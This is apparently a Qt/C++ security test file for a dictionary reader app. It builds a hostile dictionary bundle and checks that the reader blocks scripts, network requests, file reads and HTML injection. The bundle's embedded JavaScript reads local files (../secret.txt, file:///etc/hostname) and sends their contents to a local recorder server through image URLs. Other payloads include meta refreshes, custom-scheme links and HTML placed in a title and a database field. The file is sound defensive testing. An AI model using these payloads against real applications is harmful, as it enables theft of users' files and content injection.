#include "WLAboutImageViewController.h"
#include "WLAboutWebViewController.h"
#include "WLAppDelegate.h"
#include "WLApplication.h"
#include "WLDatabase.h"
#include "WLDictionaryCompiler.h"
#include "WLHistoryDataSource.h"
#include "WLIndexDataSource.h"
#include "WLLocalization.h"
#include "WLNavigationController.h"
#include "WLReaderShell.h"
#include "WLReport.h"
#include "WLSettingsViewController.h"
#include "WLSourceFixture.h"
#include "WLTabBarController.h"
#include "WLTableView.h"
#include "WLTableViewController.h"
#include "WLUserDefaults.h"
#include "WLWebViewController.h"
#include "WLWindowDriver.h"

#include <QAccessible>
#include <QGuiApplication>
#include <QJsonObject>
#include <QLocale>
#include <QQuickItem>
#include <QQuickWindow>
#include <QRandomGenerator>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>

#include <memory>

#include <sqlite3.h>

using namespace Qt::StringLiterals;
using namespace WLWindowDriver;

namespace {

// A web server on this machine that keeps the first line of every request
// it gets: whatever reaches it has left the page.
class RequestRecorder : public QObject
{
    Q_OBJECT

public:
    QStringList requests;

    bool listen()
    {
        connect(&mServer, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket *socket = mServer.nextPendingConnection()) {
                connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
                    const QByteArray line = socket->readLine().trimmed();
                    if (!line.isEmpty())
                        requests.append(QString::fromLatin1(line));
                    socket->write("HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nseen");
                    socket->disconnectFromHost();
                });
                connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
            }
        });
        return mServer.listen(QHostAddress::LocalHost);
    }
    QString base() const { return u"http://127.0.0.1:%1"_s.arg(mServer.serverPort()); }

private:
    QTcpServer mServer;
};

} // namespace

// The reader's real window on a dictionary made to attack it: its pages
// try to read the user's files, reach the network, start programs and use
// the link bridge; its title and a section name hold HTML.
class TestHostileBundle : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void cleanup();

    void anEntryPageRunsNoScriptAndReachesNothing();
    void onlyTappedLinksLeaveAndOnlyForTheDesktop();
    void theBridgeIsOutOfThePagesReachEvenWithItsScriptOn();
    void theAboutPageReachesNothingButATappedLinkLeaves();
    void bundleTextIsDrawnAsPlainText();

private:
    void launch();
    QQuickItem *entryView()
    {
        return findItem(viewOf(*mShell, WLWebViewController::sharedWebViewController()), u"pageView"_s);
    }
    // Nothing the pages asked for reached the server, and no file's
    // contents showed up anywhere a page could put them.
    void verifyNothingLeaked();
    QStringList historyWords() const;

    RequestRecorder mServer;
    QTemporaryDir mDir;
    QString mBundle;
    // A file beside the page directory, which no page may read.
    QString mSecret;
    QStringList mOpened;
    std::unique_ptr<WLReaderShell> mShell;
};

void TestHostileBundle::initTestCase()
{
    QVERIFY(mServer.listen());
    const QString server = mServer.base();
    mSecret = u"secret-%1"_s.arg(QRandomGenerator::global()->generate64(), 0, 16);

    // Whatever the page manages to read, it sends here and shows here.
    const QString script = uR"(<script>
(function () {
  var server = '%1';
  function leak(what, data) { new Image().src = server + '/leak-' + what + '?d=' + encodeURIComponent(data); }
  function show(data) { document.getElementById('sink').textContent += data; }
  document.title = 'script ran';
  document.getElementById('marker').textContent = 'script ran; qt ' + typeof qt + '; channel ' + typeof QWebChannel;
  try { var x = new XMLHttpRequest(); x.open('GET', '../secret.txt', false); x.send(); leak('xhr', x.responseText); show(x.responseText); } catch (e) {}
  fetch('file:///etc/hostname').then(function (r) { return r.text(); }).then(function (t) { leak('fetch', t); show(t); }).catch(function () {});
  fetch('../secret.txt').then(function (r) { return r.text(); }).then(function (t) { leak('fetch-beside', t); show(t); }).catch(function () {});
  try { window.open(server + '/window-open'); } catch (e) {}
  try { new QWebChannel(qt.webChannelTransport, function (c) { c.objects.viewer.activate(document.querySelector('a.xref a, a[href^="#"]').getAttribute('href')); }); } catch (e) {}
  var xref = document.querySelector('a[href^="#"]');
  if (xref) xref.click();
  setTimeout(function () { location = 'x-wlhostile:' + document.title; }, 200);
  setTimeout(function () { location = server + '/script-location'; }, 400);
})();
</script>)"_s.arg(server);
    const QString attack =
        u"<p id=\"marker\">no script ran</p><p id=\"sink\"></p>"_s
        u"<p>See [[victim]].</p>"_s
        u"<img src=\"%1/img.png\"><img src=\"file:///etc/hostname\">"_s
        u"<iframe src=\"%1/frame\"></iframe><iframe src=\"file:///etc/hostname\"></iframe>"_s
        u"<link rel=\"stylesheet\" href=\"%1/style.css\"><link rel=\"prefetch\" href=\"%1/prefetch\">"_s
        u"<audio autoplay src=\"%1/sound.ogg\"></audio><object data=\"%1/object\"></object>"_s
        u"<form action=\"%1/form\" method=\"get\"><input name=\"q\" value=\"x\">"_s
        u"<button id=\"submit\">Send</button></form>"_s
        u"<p><a id=\"rewritten\" href=\"%1/tapped\" onclick=\"this.href += '?d=' + document.title\">tap</a></p>"_s
        u"<p><span id=\"plain\" onclick=\"location = 'x-wlhostile:' + document.title\">plain text</span></p>"_s
        u"<p><a id=\"custom\" href=\"x-wlhostile:payload\">custom scheme</a></p>"_s
        u"<p><a id=\"file\" href=\"file:///etc/hostname\">a file</a></p>"_s
        u"<p><a id=\"beside\" href=\"../secret.txt\">beside</a></p>"_s
        u"<p><a id=\"mail\" href=\"mailto:someone@example.org\">mail</a></p>"_s
        u"<p><a id=\"secure\" href=\"https://example.org/\">secure</a></p>"_s
        u"<p><a id=\"blank\" target=\"_blank\" href=\"%1/blank\">new window</a></p>"_s.arg(server) +
        script;

    QJsonObject manifest = WLSourceFixture::manifest();
    manifest.insert(u"title"_s, u"<img src=\"%1/title.png\">Hostile <b>title</b>"_s.arg(server));
    manifest.insert(u"header"_s, u"<html><head><meta http-equiv=\"refresh\" content=\"0;url=%1/refresh\">"
                                 u"</head><body>"_s.arg(server));
    const QString source = mDir.filePath(u"source"_s);
    QVERIFY(WLSourceFixture::write(source, manifest,
                                   WLSourceFixture::entry(u"attack"_s, {attack}) +
                                       WLSourceFixture::entry(u"victim"_s, {u"<p>the victim</p>"_s})));
    QVERIFY(QDir(source).mkpath(u"about"_s));
    QVERIFY(WLSourceFixture::writeFile(
        QDir(source).filePath(u"about/index.html"_s),
        (u"<html><head><meta charset=\"UTF-8\">"_s
         u"<meta http-equiv=\"refresh\" content=\"0;url=file:///etc/hostname\"></head>"_s
         u"<body><p id=\"sink\"></p>"_s
         u"<img src=\"%1/about.png\"><iframe src=\"%1/about-frame\"></iframe>"_s
         u"<p><a id=\"ext\" href=\"%1/about-link\">the web site</a></p>"_s
         u"<p><a id=\"custom\" href=\"x-wlhostile:about\">custom</a></p>"_s
         u"<p><a id=\"credits\" href=\"credits.html\">credits</a></p>"_s
         u"<script>fetch('file:///etc/hostname').then(function (r) { return r.text(); })"_s
         u".then(function (t) { document.getElementById('sink').textContent = t; });</script>"_s
         u"</body></html>"_s)
            .arg(server)
            .toUtf8()));
    QVERIFY(WLSourceFixture::writeFile(QDir(source).filePath(u"about/credits.html"_s),
                                       "<html><body><p>The credits.</p></body></html>"));
    mBundle = mDir.filePath(u"bundle"_s);
    QString error;
    QVERIFY2(WLDictionaryCompiler::build(source, mBundle, &error), qPrintable(error));

    // A section name with HTML in it, as a bundle made by hand may have.
    sqlite3 *db = nullptr;
    QCOMPARE(sqlite3_open(QDir(mBundle).filePath(u"headword.db"_s).toUtf8().constData(), &db), SQLITE_OK);
    const QByteArray sql = u"UPDATE headword_index SET letter = '<img src=\"%1/section.png\">v' "
                           u"WHERE letter = 'v'"_s.arg(server).toUtf8();
    const int status = sqlite3_exec(db, sql.constData(), nullptr, nullptr, nullptr);
    const int changed = sqlite3_changes(db);
    sqlite3_close(db);
    QCOMPARE(status, SQLITE_OK);
    QCOMPARE(changed, 1);
}

void TestHostileBundle::init()
{
    WLUserDefaults::resetStandardUserDefaults();
    QFile::remove(WLUserDefaults::defaultPath());
    WLIndexDataSource::setFirstShowing(true);
    mServer.requests.clear();
    mOpened.clear();
}

void TestHostileBundle::cleanup()
{
    if (mShell)
        mShell->terminate();
    mShell.reset();
    WLUserDefaults::resetStandardUserDefaults();
}

void TestHostileBundle::launch()
{
    mShell = std::make_unique<WLReaderShell>();
    WLReaderShell::Options options;
    options.dictionaryPath = mBundle;
    options.quitWhenStopped = false;
    QVERIFY(mShell->start(options));
    QVERIFY(QTest::qWaitForWindowExposed(mShell->window()));
    // The desktop's opener, stood in for.
    WLApplication::setOpenURLHandler([this](const QUrl &url) {
        mOpened.append(url.toString());
        return true;
    });
    const QString pageDirectory = WLDatabase::sharedDatabase()->htmlBaseURL().toLocalFile();
    QVERIFY(!pageDirectory.isEmpty());
    QVERIFY(WLSourceFixture::writeFile(QDir(pageDirectory).filePath(u"../secret.txt"_s), mSecret.toUtf8()));
}

QStringList TestHostileBundle::historyWords() const
{
    QStringList words;
    WLHistoryDataSource *history = WLHistoryDataSource::sharedHistory();
    for (std::size_t i = 0; history && i < history->historyCount(); ++i) {
        QString word;
        history->getWord(&word, nullptr, nullptr, {0, qsizetype(i)});
        words.append(word);
    }
    return words;
}

void TestHostileBundle::verifyNothingLeaked()
{
    // Time for anything the page started to arrive.
    QTest::qWait(1500);
    QCOMPARE(mServer.requests.join(u" | "_s), QString());
    const QString page = runJavaScript(entryView(), u"document.documentElement.outerHTML"_s).toString();
    QVERIFY(!page.isEmpty());
    QVERIFY(!page.contains(mSecret));
    QCOMPARE(runJavaScript(entryView(), u"document.getElementById('sink') ? document.getElementById('sink').textContent : ''"_s).toString(),
             QString());
    for (const QString &opened : std::as_const(mOpened))
        QVERIFY2(!opened.contains(mSecret) && !opened.contains(u"script"_s), qPrintable(opened));
}

void TestHostileBundle::anEntryPageRunsNoScriptAndReachesNothing()
{
    launch();
    WLReportCapture reports;
    QVERIFY(openFromIndex(*mShell, u"attack"_s));
    QCOMPARE(runJavaScript(entryView(), u"document.getElementById('marker').textContent"_s).toString(),
             u"no script ran"_s);
    QTest::qWait(1000);
    // The refresh did not take the viewer away, and the history holds the
    // one entry opened.
    QVERIFY(pageText(entryView()).contains(u"no script ran"_s));
    QCOMPARE(historyWords(), QStringList{u"attack"_s});
    verifyNothingLeaked();
    QCOMPARE(mOpened, QStringList());
    // One line for the page, however many requests it made.
    qsizetype blocked = 0;
    for (const std::string &line : reports.lines())
        blocked += line.find("requestBlocked:") != std::string::npos;
    QCOMPARE(blocked, 1);
}

void TestHostileBundle::onlyTappedLinksLeaveAndOnlyForTheDesktop()
{
    struct Tap {
        const char *what;
        QString selector;
        QStringList opened;
        // What a report line names when the tap is refused.
        QString refusal;
    };
    const QString server = mServer.base();
    const Tap taps[] = {
        {"a link whose click handler rewrites it", u"#rewritten"_s, {server + u"/tapped"_s}, {}},
        {"plain text whose click handler sets the location", u"#plain"_s, {}, {}},
        {"a custom scheme", u"#custom"_s, {}, u"x-wlhostile:payload was not followed"_s},
        {"a file", u"#file"_s, {}, u"file:///etc/hostname was not followed"_s},
        {"a file beside the page directory", u"#beside"_s, {}, u"secret.txt names no file"_s},
        {"mailto", u"#mail"_s, {u"mailto:someone@example.org"_s}, {}},
        {"https", u"#secure"_s, {u"https://example.org/"_s}, {}},
        {"a new window", u"#blank"_s, {server + u"/blank"_s}, {}},
        // Refused with the page's other requests, which were reported already.
        {"a form", u"#submit"_s, {}, {}},
    };
    launch();
    QVERIFY(openFromIndex(*mShell, u"attack"_s));
    for (const Tap &tap : taps) {
        mOpened.clear();
        WLReportCapture reports;
        QVERIFY2(tapInPage(entryView(), tap.selector), tap.what);
        QTest::qWait(300);
        QVERIFY2(mOpened == tap.opened, qPrintable(QLatin1String(tap.what) + u": "_s + mOpened.join(u", "_s)));
        QStringList lines;
        for (const std::string &line : reports.lines())
            lines.append(QString::fromStdString(line));
        QVERIFY2(lines.join(QString()).contains(tap.refusal), qPrintable(QLatin1String(tap.what) + u": "_s + lines.join(QString())));
        // The entry stays on screen, and nothing else was shown.
        QVERIFY2(pageText(entryView()).contains(u"no script ran"_s), tap.what);
        QVERIFY2(historyWords() == QStringList{u"attack"_s}, tap.what);
    }
    verifyNothingLeaked();
}

void TestHostileBundle::theBridgeIsOutOfThePagesReachEvenWithItsScriptOn()
{
    // Should the page's script run after all, the bridge, the files and
    // the network stay out of its reach.
    launch();
    QVERIFY(openFromIndex(*mShell, u"attack"_s));
    QObject *settings = entryView()->property("settings").value<QObject *>();
    QVERIFY(settings);
    QVERIFY(settings->setProperty("javascriptEnabled", true));
    WLWebViewController *viewer = WLWebViewController::sharedWebViewController();
    QVERIFY(viewer->setCurrentContentsIDs(viewer->currentContentsIDs(), u"attack"_s, *viewer->currentLinks()));
    QVERIFY(waitForPage(viewer->webView()));
    QTRY_COMPARE(runJavaScript(entryView(), u"document.getElementById('marker').textContent"_s).toString(),
                 u"script ran; qt undefined; channel undefined"_s);
    QTest::qWait(1000);
    QCOMPARE(viewer->currentWord(), std::optional(u"attack"_s));
    QCOMPARE(historyWords(), QStringList{u"attack"_s});
    QVERIFY(pageText(entryView()).contains(u"script ran"_s));
    verifyNothingLeaked();
    QCOMPARE(mOpened, QStringList());
}

void TestHostileBundle::theAboutPageReachesNothingButATappedLinkLeaves()
{
    launch();
    WLNavigationController *index = qobject_cast<WLNavigationController *>(
        mShell->appDelegate()->tabBarController()->viewControllers().value(0));
    mShell->appDelegate()->showAbout(nullptr);
    WLNavigationController *about = mShell->appDelegate()->aboutNavigationController();
    QVERIFY(about && index);
    auto *aboutScreen = qobject_cast<WLAboutImageViewController *>(about->viewControllers().value(0));
    QVERIFY(aboutScreen);
    aboutScreen->aboutButtonPressed(nullptr);
    WLAboutWebViewController *pageScreen = aboutScreen->aboutWebViewController();
    QVERIFY(pageScreen);
    QQuickItem *page = findItem(viewOf(*mShell, pageScreen), u"pageView"_s);
    QVERIFY(waitForPage(pageScreen->webView()));
    QTRY_VERIFY(!QTest::currentTestFailed() && about->topViewController() == pageScreen);
    QVERIFY(waitUntilStill(page));
    QTest::qWait(1000);
    QCOMPARE(runJavaScript(page, u"document.getElementById('sink').textContent"_s).toString(), QString());

    QVERIFY(tapInPage(page, u"#custom"_s));
    QVERIFY(tapInPage(page, u"#ext"_s));
    QTRY_COMPARE(mOpened, QStringList{mServer.base() + u"/about-link"_s});
    // A page of the About folder opens in place.
    QVERIFY(tapInPage(page, u"#credits"_s));
    QTRY_VERIFY(pageText(page).contains(u"The credits."_s));
    QTest::qWait(500);
    QCOMPARE(mServer.requests.join(u" | "_s), QString());
    QCOMPARE(mOpened, QStringList{mServer.base() + u"/about-link"_s});
}

void TestHostileBundle::bundleTextIsDrawnAsPlainText()
{
    launch();
    auto *index = qobject_cast<WLTableViewController *>(
        qobject_cast<WLNavigationController *>(mShell->appDelegate()->tabBarController()->viewControllers().value(0))
            ->viewControllers().value(0));
    QVERIFY(index);
    const QString title = WLDatabase::sharedDatabase()->title();
    QVERIFY(title.startsWith(u"<img"_s));
    const QString section = index->tableView()->titleForSection(1);
    QVERIFY2(section.contains(u"<"_s), qPrintable(section));
    // The bar, the section header and the section index show the
    // characters, not a picture and bold text.
    for (const QString &text : {title, section}) {
        QQuickItem *shown = nullptr;
        QTRY_VERIFY(shown = findItem(mShell->window()->contentItem(), [&](QQuickItem *item) {
                        return item->property("text").toString() == text && item->isVisible();
                    }));
        QCOMPARE(shown->property("textFormat").toInt(), int(Qt::PlainText));
    }

    // A screen reader gets the same characters: the bar's heading, the
    // window's title, the list, the section's heading.
    QStringList named;
    const auto collect = [&named](QAccessibleInterface *node, const auto &self) -> void {
        if (!node)
            return;
        named.append(node->text(QAccessible::Name));
        for (int child = 0; child < node->childCount(); ++child)
            self(node->child(child), self);
    };
    collect(QAccessible::queryAccessibleInterface(mShell->window()), collect);
    QVERIFY(named.contains(title));
    QVERIFY(named.contains(title + u" — WL Reader"_s));
    QVERIFY2(named.contains(section), qPrintable(named.join(u", "_s)));

    // The settings' list of dictionaries, and an alert naming it.
    mShell->appDelegate()->showAbout(nullptr);
    auto *about = qobject_cast<WLAboutImageViewController *>(
        mShell->appDelegate()->aboutNavigationController()->viewControllers().value(0));
    QVERIFY(about);
    about->settingsButtonPressed(nullptr);
    WLSettingsViewController *settings = about->settingsViewController();
    const auto drawnAsPlainText = [this](const std::function<bool(const QString &)> &match) {
        QQuickItem *shown = nullptr;
        if (!QTest::qWaitFor([&] {
                return (shown = findItem(mShell->window()->contentItem(), [&](QQuickItem *item) {
                            return item->isVisible() && match(item->property("text").toString());
                        }));
            }))
            return false;
        return shown->property("textFormat").toInt() == int(Qt::PlainText);
    };
    QVERIFY(drawnAsPlainText([&](const QString &text) { return text == title; }));
    settings->setEditing(true, false);
    const QAbstractItemModel *rows = settings->tableView()->model();
    const QModelIndexList found = rows->match(rows->index(0, 0), Qt::DisplayRole, title, 1, Qt::MatchExactly);
    QCOMPARE(found.size(), 1);
    settings->tableView()->tapRow(found.first().row());
    QVERIFY(drawnAsPlainText([&](const QString &text) { return text.startsWith(title + u" is not installed"_s); }));
    QTest::qWait(1000);
    QCOMPARE(mServer.requests.join(u" | "_s), QString());
}

int main(int argc, char *argv[])
{
    WLReaderShell::prepareApplication();
    QGuiApplication app(argc, argv);
    QLocale::setDefault(QLocale(QLocale::English));
    WLLocalization::install();
    TestHostileBundle test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_hostilebundle.moc"
